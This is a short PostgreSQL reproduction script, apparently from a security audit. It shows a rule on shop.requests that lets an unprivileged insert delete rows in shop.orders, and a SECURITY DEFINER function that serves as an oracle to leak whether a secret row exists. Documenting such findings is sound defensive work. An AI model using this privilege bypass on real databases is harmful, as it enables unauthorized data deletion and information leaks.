-- finding: definer-unchecked shop.requests rule cancelling
SET ROLE shop_owner;
CREATE TABLE shop.requests (id bigint, why text, owner text NOT NULL DEFAULT current_user);
ALTER TABLE shop.requests ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.requests USING (owner = current_user);
GRANT SELECT, INSERT ON shop.requests TO order_users;
CREATE RULE cancelling AS ON INSERT TO shop.requests WHERE NEW.why <> 'don''t DO INSTEAD' DO INSTEAD DELETE FROM shop.orders WHERE id = NEW.id;
RESET ROLE;
CREATE FUNCTION shop.is_gone() RETURNS boolean LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$ SELECT NOT EXISTS (SELECT FROM shop.orders WHERE item = 'secret') $$;
-- leak as alice@example.com
INSERT INTO shop.requests VALUES (2, '');
SELECT 'gone' WHERE shop.is_gone();
